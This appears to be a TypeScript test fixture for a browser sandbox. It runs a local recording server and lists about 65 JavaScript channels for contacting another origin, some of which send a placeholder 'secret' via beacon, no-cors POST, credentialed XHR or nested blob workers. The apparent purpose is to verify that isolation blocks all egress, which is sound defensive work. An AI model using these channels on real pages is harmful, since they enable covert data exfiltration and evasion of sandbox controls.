/** A server of another origin, which writes down whatever reaches it: connections, requests and datagrams. */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface ForeignServer {
	readonly origin: string;
	readonly port: number;
	/** Paths of requests, and a word for what is none. */
	readonly heard: string[];
	readonly close: () => void;
}

export async function startForeignServer(): Promise<ForeignServer> {
	const heard: string[] = [];
	const server = createServer((request, response) => {
		heard.push(request.url ?? '');
		response.writeHead(200, {
			'access-control-allow-origin': '*',
			'cross-origin-resource-policy': 'cross-origin',
			'content-type': /\.(js|html)$/.exec(request.url ?? '')?.[1] === 'html' ? 'text/html' : 'text/javascript',
		});
		response.end(request.url?.endsWith('.html') ? '<!doctype html><title>foreign</title>' : '');
	});
	server.on('connection', () => heard.push('connection'));
	server.on('upgrade', (request, socket) => {
		heard.push(request.url ?? '');
		socket.destroy();
	});
	server.listen(0, '127.0.0.1');
	await once(server, 'listening');
	const { port } = server.address() as AddressInfo;
	const datagrams = createSocket('udp4', () => heard.push('datagram')).bind(port, '127.0.0.1');
	return {
		origin: `http://127.0.0.1:${port}`,
		port,
		heard,
		close() {
			datagrams.close();
			server.close();
			server.closeAllConnections();
		},
	};
}

/**
 * Ways of JavaScript to ask another origin, each by its name: `at` is an address there that ends in it. What a browser
 * has not, or refuses, throws or rejects; `wait` gives the rest its time.
 */
// biome-ignore-start lint/suspicious/noTemplateCurlyInString: they are templates where they run.
export const WAYS: Readonly<Record<string, string>> = {
	fetch: 'await fetch(at)',
	'fetch-no-cors': 'await fetch(at, { mode: "no-cors", method: "POST", body: "secret" })',
	'fetch-keepalive': 'await fetch(at, { keepalive: true })',
	'fetch-request': 'await fetch(new Request(at, { mode: "no-cors" }))',
	'fetch-later': 'fetchLater(at)',
	'fetch-redirect': 'await fetch(at, { redirect: "manual", mode: "no-cors" })',
	xhr: 'const x = new XMLHttpRequest(); x.open("GET", at); x.send(); await wait(x)',
	'xhr-sync': 'const x = new XMLHttpRequest(); x.open("POST", at, false); x.send("secret")',
	websocket: 'await wait(new WebSocket(at.replace("http", "ws")))',
	'websocket-stream': 'await new WebSocketStream(at.replace("http", "ws")).opened',
	eventsource: 'await wait(new EventSource(at))',
	beacon: 'navigator.sendBeacon(at, "secret")',
	webtransport: 'await new WebTransport(at.replace("http", "https")).ready',
	rtc: `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(at).host }] });
		peer.createDataChannel("c"); await peer.setLocalDescription(await peer.createOffer()); await wait(peer)`,
	fontface: 'await new FontFace("f", `url(${at})`).load()',
	'fontface-added': 'const f = new FontFace("g", `url(${at})`); self.fonts.add(f); await self.fonts.load("12px g")',
	'canvas-font': 'new FontFace("h", `url(${at})`).load(); new OffscreenCanvas(9, 9).getContext("2d").font = "9px h"',
	image: 'const i = new Image(); i.src = at; await wait(i)',
	'image-bitmap': 'await createImageBitmap(await (await fetch(at)).blob())',
	'image-decoder': 'new ImageDecoder({ type: "image/png", data: (await fetch(at)).body })',
	import: 'await import(at)',
	'import-data': 'await import(`data:text/javascript,import ${JSON.stringify(at)}`)',
	'import-blob':
		'await import(URL.createObjectURL(new Blob([`import ${JSON.stringify(at)}`], { type: "text/javascript" })))',
	'import-scripts': 'importScripts(at)',
	eval: 'await (0, eval)(`import(${JSON.stringify(at)})`)',
	function: 'await Function(`return import(${JSON.stringify(at)})`)()',
	'timer-of-text': 'setTimeout(`import(${JSON.stringify(at)})`, 0); await wait()',
	worker: 'await wait(new Worker(at))',
	'worker-module': 'await wait(new Worker(at, { type: "module" }))',
	'worker-blob':
		'await wait(new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at)}, { mode: "no-cors" })`]))))',
	'worker-blob-import':
		'await wait(new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(at)})`]))))',
	'worker-blob-module':
		'await wait(new Worker(URL.createObjectURL(new Blob([`import ${JSON.stringify(at)}`], { type: "text/javascript" })), { type: "module" }))',
	'worker-data': 'await wait(new Worker(`data:text/javascript,fetch(${JSON.stringify(at)})`))',
	'shared-worker': 'await wait(new SharedWorker(at).port)',
	'cache-add': 'await (await caches.open("w")).add(at)',
	'cache-no-cors': 'await (await caches.open("w")).add(new Request(at, { mode: "no-cors" }))',
	wasm: 'await WebAssembly.compileStreaming(fetch(at))',
	'fetch-upload-stream':
		'const body = new ReadableStream({ start(c) { c.enqueue(new Uint8Array(9)); c.close(); } }); await fetch(at, { method: "POST", duplex: "half", body })',
	'fetch-private-token': 'await fetch(at, { privateToken: { version: 1, operation: "token-request" } })',
	'xhr-upload':
		'const x = new XMLHttpRequest(); x.upload.onprogress = () => {}; x.open("PUT", at); x.withCredentials = true; x.send(new Blob(["secret"])); await wait(x)',
	'websocket-of-http': 'await wait(new WebSocket(at, ["secret"]))',
	'eventsource-credentials': 'await wait(new EventSource(at, { withCredentials: true }))',
	'font-of-drawn-text':
		'self.fonts.add(new FontFace("j", `url(${at})`, { unicodeRange: "U+41" })); const c = new OffscreenCanvas(9, 9).getContext("2d"); c.font = "9px j"; c.fillText("A", 0, 9); await wait()',
	'font-of-second-source': 'await new FontFace("k", `local(none), url(${at}) format("woff2"), url(${at}?2)`).load()',
	'canvas-filter':
		'const c = new OffscreenCanvas(9, 9).getContext("2d"); c.filter = `url(${at}#f)`; c.fillRect(0, 0, 9, 9); await wait()',
	'style-import': 'await new CSSStyleSheet().replace(`@import url(${at})`)',
	'svg-in-bitmap':
		'await createImageBitmap(new Blob([`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"> <image href="${at}" width="9" height="9"/></svg>`], { type: "image/svg+xml" }))',
	'import-json': 'await import(at, { with: { type: "json" } })',
	'import-text': 'await import(at, { with: { type: "text" } })',
	'import-wasm': 'await import(`${at}.wasm`)',
	'import-reexported': 'await import(`data:text/javascript,export * from ${JSON.stringify(at)}`)',
	'import-scripts-data': 'importScripts(`data:text/javascript,fetch(${JSON.stringify(at)}, { mode: "no-cors" })`)',
	'import-scripts-blob':
		'importScripts(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at)}, { mode: "no-cors" })`])))',
	'import-scripts-trusted':
		'importScripts(trustedTypes.createPolicy("x", { createScriptURL: (url) => url }).createScriptURL(at))',
	'async-function': 'await (async () => {}).constructor(`return import(${JSON.stringify(at)})`)()',
	'generator-function': '(function* () {}).constructor(`import(${JSON.stringify(at)})`)().next(); await wait()',
	'worker-of-worker':
		'const inner = `fetch(${JSON.stringify(at)}, { mode: "no-cors" })`; const outer = `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])))`; await wait(new Worker(URL.createObjectURL(new Blob([outer]))))',
	'cache-of-bucket':
		'await (await (await navigator.storageBuckets.open("w")).caches.open("w")).add(new Request(at, { mode: "no-cors" }))',
	'source-map':
		'const [name, address] = ["sourceMappingURL", at].map((text) => new TextEncoder().encode(text)); const section = [name.length, ...name, address.length, ...address]; await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 0, section.length, ...section])); await wait()',
	'direct-socket': 'await new TCPSocket("127.0.0.1", Number(new URL(at).port)).opened',
	'notification-icon': 'new Notification("x", { icon: at, image: at }); await wait()',
	navigation: 'self.location.href = at; await wait()',
	'window-open': 'await self.clients?.openWindow(at); open(at)',
	'background-fetch': 'await (await navigator.serviceWorker.ready).backgroundFetch.fetch("w", at)',
	'push-registration': 'await navigator.serviceWorker.register(at)',
};

// biome-ignore-end lint/suspicious/noTemplateCurlyInString: they are templates where they run.

/** The text of a worker that tries every way, and says when it has begun and when it is done. */
export function workerOfAllWays(origin: string): string {
	const tries = Object.entries(WAYS).map(
		([name, body]) => `tries.push((async (at) => { ${body} })(${JSON.stringify(`${origin}/${name}.js`)}));`,
	);
	return `
const wait = (target, ms = 1500) => new Promise((done) => {
	for (const name of ['load', 'open', 'error', 'message', 'icegatheringstatechange'])
		target?.addEventListener(name, done);
	setTimeout(done, ms);
});
postMessage('begun');
const tries = [];
${tries.join('\n')}
Promise.allSettled(tries.map((tried) => Promise.race([tried, wait(null, 4000)]))).then(() => postMessage('done'));
`;
}
